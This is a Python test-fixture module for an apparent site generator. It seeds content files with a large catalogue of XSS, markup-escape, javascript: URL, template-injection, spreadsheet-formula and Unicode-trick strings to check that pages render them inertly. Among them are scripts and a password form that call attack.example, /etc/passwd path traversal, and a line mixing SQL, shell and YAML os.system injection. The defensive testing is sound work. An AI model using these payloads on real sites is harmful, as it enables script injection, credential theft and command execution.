"""Texts that try to become script, markup, style, an address or a template, and sites that have them everywhere."""

import shutil
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from itertools import count
from pathlib import Path
from typing import Any

import yaml

from playbookgen.content import schema
from playbookgen.content.config import DEFAULT_AREAS, Site
from playbookgen.content.model import Account, FreePage, Guide, Model, Person, Product
from playbookgen.findings import DataPath

MODELS: Mapping[str, type[Model]] = {
    "accounts": Account,
    "people": Person,
    "products": Product,
    "roles": Guide,
    "pages": FreePage,
}

LINES = (
    # elements that run something by themselves
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT >",
    "<script/x>alert(1)</script/x>",
    "<script\t>alert(1)</script\t>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script src=data:text/javascript,alert(1)></script>",
    "<script src='https://attack.example/x.js' async></script>",
    "<script type=module>import 'https://attack.example/m.js'</script>",
    "<<script>alert(1);//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<img src='https://attack.example/pixel.png' srcset='https://attack.example/2.png 2x'>",
    "<image src=x onerror=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1) autoplay></audio>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:parent.alert(1)></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div style='animation:x' onanimationstart=alert(1)></div>",
    "<dialog open onbeforetoggle=alert(1)>x</dialog>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<portal src=https://attack.example/></portal>",
    # what ends the place that a text stands in
    "\" onmouseover=alert(1) x=\"",
    "' onfocus=alert(1) autofocus tabindex=1 x='",
    "\"><img src=x onerror=alert(1)>",
    "'><svg/onload=alert(1)>",
    "`><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</textarea></style></noscript></xmp><script>alert(1)</script>",
    "</a></li></ul></td></tr></table></main><script>alert(1)</script>",
    "<!-- an open comment <script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "--!><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php alert(1) ?><?xml-stylesheet href='https://attack.example/x.css'?>",
    "<plaintext>",
    # drawings and formulas
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href='data:text/javascript,alert(1)'/></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)/>#x'/></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mi href='javascript:alert(1)'>x</mi></math>",
    "<math><maction actiontype=statusline xlink:href='javascript:alert(1)'>x</maction></math>",
    # markup that means something else when it is read a second time
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<select><style><img src=x onerror=alert(1)></style></select>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;b&amp;gt; &#60;i&#62; &#x3c;u&#x3e; &nbsp &copy",
    "&lt;img src=x onerror=alert(1)&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E \\u003cscript\\u003ealert(1)\\x3c/script\\x3e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e \u02bacite\u02ba \u2039b\u203a \ufe64i\ufe65",
    # what a page would load, follow or send
    "<base href=https://attack.example/>",
    "<meta http-equiv=refresh content='0;url=https://attack.example/'>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
    "<link rel=stylesheet href=https://attack.example/x.css><link rel=prefetch href=//attack.example>",
    "<form action=https://attack.example/><input name=password><button>OK</button></form>",
    "<a href=https://attack.example/ ping=https://attack.example/ping target=_top>x</a>",
    "<style>@import 'https://attack.example/x.css'; body{display:none}</style>",
    "<p style=\"background:url(https://attack.example/x.png)\">x</p>",
    "expression(alert(1)); -moz-binding:url(//attack.example/x.xml#x); }*{color:red",
    "<a name=body id=_main>x</a><form id=document><input name=cookie></form>",
    # addresses
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//",
    "java\tscript:alert(1)",
    "javascript&colon;alert&lpar;1&rpar;",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "view-source:javascript:alert(1)",
    "blob:https://attack.example/x",
    "//attack.example/x",
    "\\\\attack.example\\x",
    "https://attack.example\\@playbook.example/",
    "../../../../etc/passwd",
    "#\"><script>alert(1)</script>",
    # languages of templates, of formats and of spreadsheets
    "{{ 7*7 }} {{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for a in (1, 2) %}x{% endfor %} {% raw %} {# a comment",
    "${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('alert(1)')()}}",
    "%(count)s %s %n {count} {0} {value!r:>99} {day:date}",
    "=HYPERLINK(\"https://attack.example\") +1 -1 @SUM(1) | cmd",
    "'; DROP TABLE accounts; -- $(touch /tmp/x) `id` !!python/object/apply:os.system [id]",
    # letters
    "\u05d0\u05d1\u05d2 (\u0645\u0631\u062d\u0628\u0627) abc <b>",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a alert(1)",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 e\u0301 \ufb01 \u212b \u2126",
    "W" * 300,
)  # fmt: skip
"""One line each; a text of any key may be one of them, and comes out on pages as it is."""

UNSEEN = (
    "java\0script:alert(1)<scr\0ipt>",
    "a\u2028<script>alert(1)</script>\u2029",
    "\u202egpj.exe \u2066<b>\u2069 \u200f\u061c",
    "<scr\u00adipt>al\u200bert(1)</scr\u2060ipt>",
    "\ufeff<script>alert(1)</script>\ufeff",
    "\x1b[31m\x08\x7f\x85<b>",
    "\ufffe\uffff<b>",
)
"""With characters that show as nothing. Each is a finding, and stands on no page as it is."""

BLOCKS = (
    "[a](javascript:alert(1)) [b]( JaVaScRiPt:alert(1) ) [c](<javascript:alert(1)>) [d](java\nscript:alert(1))",
    "[a](javascript&colon;alert(1)) [b](&#106;avascript:alert(1)) [c](&#x6A;&#x61;vascript&#58;alert(1))",
    "[a](javascript%3Aalert(1)) [b](%6Aavascript:alert(1)) [c](\\javascript:alert(1)) [d](j\\avascript:alert(1))",
    "[a](data:text/html,<script>alert(1)</script>) [b](DATA:text/html;base64,PHNjcmlwdD4=) [c](vbscript:x)",
    "[a](https://attack.example/\"onmouseover=\"alert(1)) [b](https://a.example/ \"t\" onclick=\"alert(1)\")",
    "[a](https://attack.example/'><script>alert(1)</script>) [b](<https://a.example/\" onclick=alert(1) x=\">)",
    "[a](https://a.example/ '\"><img src=x onerror=alert(1)>') [b](https://a.example/ \"&quot; onclick=alert(1)\")",
    "[a](//attack.example/) [b](/\\attack.example) [c](\\\\attack.example) [d](file:///etc/passwd) [e](blob:x)",
    "![a](https://attack.example/x.png) ![b](javascript:alert(1)) ![c](x\"onerror=\"alert(1)) ![d][r]\n\n[r]: //x.a",
    "[![a](x)](javascript:alert(1)) [a [b](javascript:alert(1)) c](https://a.example/)",
    "[a]: javascript:alert(1)\n[b]: <javascript:alert(1)> \"t\"\n[c]: data:text/html,x\n\n[a] [b][b] [c][]",
    "[a]: https://a.example/\"onclick=alert(1) '\"><script>alert(1)</script>'\n\n[x][a]",
    "<javascript:alert(1)> <JAVASCRIPT:alert(1)> <data:text/html,x> <https://a.example/\"onclick=alert(1)>",
    "<x@a.example?body=\"onclick=alert(1)> <mailto:x@a.example\"><b> <a&#64;a.example> <x@[javascript:alert(1)]>",
    "<div>\n<script>\nalert(1)\n</script>\n</div>",
    "<script>\n\nalert(1)\n\n</script>\n\n<style>\n\n* { display: none }\n\n</style>",
    "<div markdown=\"1\" onclick=\"alert(1)\">*a*</div>\n\n<p markdown=block><script>alert(1)</script></p>",
    "a<b onclick=alert(1)>b</b>*<i onmouseover=alert(1)>*`<img src=x onerror=alert(1)>`\\<script>alert(1)\\</script>",
    "# <script>alert(1)</script> {: onclick=alert(1) #_main }\n\n## \" onclick=alert(1)\n\n### main {#main}",
    "| a {: onclick=alert(1) } | <b onclick=alert(1)> |\n|:--|--:|\n| [x](javascript:alert(1)) | `\"><script>` |",
    "~~~ javascript\" onclick=alert(1)\n<script>alert(1)</script>\n~~~\n\n~~~ { .x onclick=x }\n</pre><b>\n~~~",
    "term <script>alert(1)</script>\n:   <img src=x onerror=alert(1)>\n\n    [a](javascript:alert(1))",
    "1. <svg onload=alert(1)>\n    - [x](javascript:alert(1))\n        > <iframe srcdoc='<script>alert(1)</script>'>",
    "*[HTML]: \"><script>alert(1)</script>\n\nHTML [^1] [TOC] {{ 7*7 }} {% for a in b %}\n\n[^1]: <script>a()</script>",
    "\x02amp\x03 \x02klzzwxh:0001\x03 klzzwxh:0000 wzxhzdk:0 zz1337820767766393qq \x02106\x03avascript:alert(1)",
    "<!-- <script>alert(1)</script>\n\n-->\n\n<![CDATA[ <b> ]]> <?php alert(1) ?> <!doctype x [<!entity y 'z'>]> &y;",
    "**<a href=\"javascript:alert(1)\">x</a>** __[x](https://a.example/__\"onclick=alert(1))__ `` ` <b> ``",
    "[\u202egpj](https://a.example/) [a](https://a.example/\u2028javascript:alert(1)) [b](java\u200bscript:alert(1))",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;img src=x onerror=alert(1)&amp;gt; &NewLine;&Tab;&colon;",
    "[a](&#x2f;&#x2f;attack.example) [b](https&colon;//attack.example) [c](HTTPS://a.example/&quot;onclick=alert(1))",
    "[" * 400 + "x" + "](javascript:alert(1))" * 40,
    "> " * 200 + "<script>alert(1)</script>",
)  # fmt: skip
"""For texts in Markdown."""

ACCEPTED: Mapping[str, tuple[str, ...]] = {
    "url": (
        "https://attack.example/'onclick='alert(1)",
        "https://attack.example/&quot;onclick=&quot;alert(1)",
        "https://attack.example/?a=1&lt=2&copy=3;b='",
        "https://attack.example/#:~:text=x&javascript:alert(1)",
    ),
    "email": (
        "x'onclick='alert'@attack.example",
        "x&quot@attack.example",
        "x@attack.example?bcc=y%0a&body=%3Cb%3E.example",
    ),
}
"""Attacks that are sound addresses all the same, by the kind of value."""

ADDRESSES = (
    *(line for line in LINES if ":" in line.partition(" ")[0] and "<" not in line),
    *(line for lines in ACCEPTED.values() for line in lines),
    'https://attack.example/"onclick=alert(1)',
    "https://user:password@attack.example/",
    "http://[::1]/",
    "x@attack.example?bcc=y@attack.example&body=%0a",
    '+48 1" onclick=alert(1)',
    "+48 58 000 00 02;phone-context=javascript:alert(1)",
    "people/../../index",
    "<script>alert(1)</script>",
    "{{ 7*7 }}",
)  # fmt: skip
"""For what is no free text: addresses, numbers, days, choices, names of records."""

LISTED = ("region", "industry", "rule")
"""Texts that must be one of a list."""
FULL = ("alfa", "anna-lis", "folia", "account-manager", "rabaty")
"""The records that use their keys; of the others one copy says as much as many."""

PARTS = 6
"""The lines and blocks are put into a record's texts by parts; so many copies of a record have all of them in each."""
PHOTO = "x'\" onerror=alert(1) <img src=x>.png"

Choose = Callable[[schema.Field, int], str | None]
Write = Callable[[schema.Field, object, DataPath], object]


def rewritten(value: object, model: type[Model] | None, write: Write, way: DataPath = ()) -> object:
    """Return content with what `write` gives for each single value, its key and the way to it."""
    return _rewritten(value, model, write, None, way)


def _rewritten(
    value: object, model: type[Model] | None, write: Write, field: schema.Field | None, way: DataPath
) -> object:
    if isinstance(value, dict):
        known = schema.fields(model) if model is not None else {}
        found = {}
        for key, inner in value.items():
            its = known.get(key, field)
            found[key] = _rewritten(inner, its.model if its is not None else None, write, its, (*way, key))
        return found
    if isinstance(value, list):
        return [_rewritten(inner, model, write, field, (*way, index)) for index, inner in enumerate(value)]
    assert field is not None
    return write(field, value, way)


@dataclass(frozen=True, slots=True)
class Attack:
    """A text where it was put."""

    path: str
    """The file."""
    way: DataPath
    """The keys that lead to it."""
    field: schema.Field
    text: str


def attack(root: Path, *, texts: int, odd: int) -> list[Attack]:
    """Add attacked copies of its records to a copy of the small company, and attack its settings.

    `texts` copies stay sound: they have attacks in free texts, and in addresses those that are addresses. Of `odd`
    copies everything but the name is attacked.
    """
    attacks: list[Attack] = []
    for folder, model in MODELS.items():
        for file in sorted((root / "content" / folder).iterdir()):
            if file.suffix in (".yaml", ".md"):
                _copy(root, file, model, texts, _in_texts, "text", attacks)
                _copy(root, file, model, odd, _everywhere, "odd", attacks)
    shutil.copy(root / "content/people/anna-lis.png", root / "content/people" / PHOTO)
    _attack_settings(root / "site.yaml", attacks)
    return attacks


def _copy(
    root: Path, file: Path, model: type[Model], count: int, choose: Choose, prefix: str, attacks: list[Attack]
) -> None:
    id, _, ending = file.name.partition(".")
    text = file.read_text("utf-8")
    front, body = text.split("---\n", 2)[1:] if file.suffix == ".md" else (text, None)
    content = yaml.load(front, yaml.BaseLoader)
    for number in range(count if id in FULL else min(count, 1)):
        path = f"content/{file.parent.name}/{prefix}-{id}-{number}.{ending}"
        attacked = consistent(_attacked(content, model, path, number, choose, attacks), content)
        whole = written(attacked)
        if body is not None:
            whole = f"---\n{whole}---\n\n" + "\n\n".join([body, *BLOCKS[number % PARTS :: PARTS]])
        (root / path).write_text(whole, encoding="utf-8")


def _attacked(
    content: object, model: type[Model], path: str, number: int, choose: Choose, attacks: list[Attack]
) -> object:
    places = count(number)

    def write(field: schema.Field, value: object, way: DataPath) -> object:
        text = choose(field, next(places))
        if text is None:
            return value
        if field.kind != "markdown":
            if choose is _in_texts and field.kind == "text" and field.name != "photo":
                text = f"{field.label} {number}: {text}"
            attacks.append(Attack(path, way, field, text))
        return text

    return rewritten(content, model, write)


def _in_texts(field: schema.Field, place: int) -> str | None:
    part = slice(place % PARTS, None, PARTS)
    if field.name == "photo":
        return PHOTO
    if field.kind is not None and field.kind in ACCEPTED:
        return ACCEPTED[field.kind][place % len(ACCEPTED[field.kind])]
    if field.kind == "markdown":
        return "\n\n".join([*LINES[part], *BLOCKS[part]])
    return " ".join(LINES[part]) if field.kind == "text" and field.name not in LISTED else None


def _everywhere(field: schema.Field, place: int) -> str | None:
    if field.name == "name":
        return None
    if field.kind == "markdown":
        return "\n\n".join(UNSEEN)
    attacks = UNSEEN if field.kind == "text" else ADDRESSES
    return attacks[place % len(attacks)]


def _attack_settings(file: Path, attacks: list[Attack]) -> None:
    content = yaml.load(file.read_text("utf-8"), yaml.BaseLoader)
    content["labels"] = {language: {"owner": "x", "tier.key": "x"} for language in ("pl", "en")}
    content["areas"] = [{"id": area, "label": {"pl": "x", "en": "x"}} for area in DEFAULT_AREAS]
    del content["url"]  # by which the page for missing pages would load from there
    attacked = _attacked(content, Site, file.name, 0, _in_texts, attacks)
    assert isinstance(attacked, dict)
    lists = {key: [*content[key], *attacked[key]] for key in ("regions", "industries")}
    file.write_text(written(attacked | lists), encoding="utf-8")


def consistent(account: Any, sound: Any) -> object:
    """Actions name competitors by their names, which have changed."""
    names = {
        old["name"]: new["name"]
        for old, new in zip(*(one.get("competitors", ()) for one in (sound, account)), strict=True)
    }
    for plan in account.get("plans", ()):
        for action in plan.get("actions", ()):
            if action.get("competitor") in names:
                action["competitor"] = names[action["competitor"]]
    return account


def written(content: object) -> str:
    """Return content as YAML in which no text can be taken for anything else."""
    return yaml.dump(content, allow_unicode=True, default_style='"', sort_keys=False, width=10_000)
